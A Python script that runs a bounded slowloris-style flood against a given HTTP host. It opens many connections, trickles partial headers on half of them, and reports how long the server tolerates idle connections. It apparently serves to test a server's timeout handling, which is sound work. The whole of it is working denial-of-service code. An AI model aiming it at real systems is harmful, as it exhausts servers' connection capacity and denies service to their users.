#!/usr/bin/python3
"""Idle-connection flood (slowloris) against an HTTP listener: HOST PORT CONNECTIONS HOLD_SECONDS.

Opens CONNECTIONS TCP connections; every other one sends half a request and then one header byte per second (a
slowloris), the rest stay silent. Holds them HOLD_SECONDS (reconnecting none), then prints one line:

    connected N closed_by_server C open_at_end O longest_open_s L

`longest_open_s` is how long the server let the longest-lived connection stay open (of those it closed, or HOLD if
any was still open). Bounded: it stops after HOLD_SECONDS plus the connect phase (at most 10 s).
"""
import errno
import select
import socket
import sys
import time

host, port, count, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
family = socket.AF_INET6 if ":" in host else socket.AF_INET

pending = {}
for i in range(count):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setblocking(False)
    code = s.connect_ex((host, port))
    if code not in (0, errno.EINPROGRESS):
        s.close()
        continue
    pending[s.fileno()] = (s, i)

connected = {}
deadline = time.monotonic() + 10
poller = select.poll()
for fd in pending:
    poller.register(fd, select.POLLOUT)
while pending and time.monotonic() < deadline:
    for fd, _ in poller.poll(200):
        s, i = pending.pop(fd)
        poller.unregister(fd)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            connected[fd] = (s, i, time.monotonic())
        else:
            s.close()
print_connected = len(connected)
for s, _ in pending.values():
    s.close()

for fd, (s, i, _) in connected.items():
    if i % 2 == 0:
        try:
            s.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        except OSError:
            pass

closed = {}
end = time.monotonic() + hold
next_trickle = time.monotonic() + 1
reader = select.poll()
for fd in connected:
    reader.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
while time.monotonic() < end and len(closed) < len(connected):
    for fd, _ in reader.poll(100):
        if fd in closed:
            continue
        s, i, opened = connected[fd]
        try:
            data = s.recv(4096)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            closed[fd] = time.monotonic() - opened
            reader.unregister(fd)
    if time.monotonic() >= next_trickle:
        next_trickle += 1
        for fd, (s, i, _) in connected.items():
            if i % 2 == 0 and fd not in closed:
                try:
                    s.send(b"a")
                except OSError:
                    pass

still_open = len(connected) - len(closed)
longest = hold if still_open else max(closed.values(), default=0.0)
print(f"connected {print_connected} closed_by_server {len(closed)} open_at_end {still_open} longest_open_s {longest:.1f}")
for s, _, _ in connected.values():
    s.close()
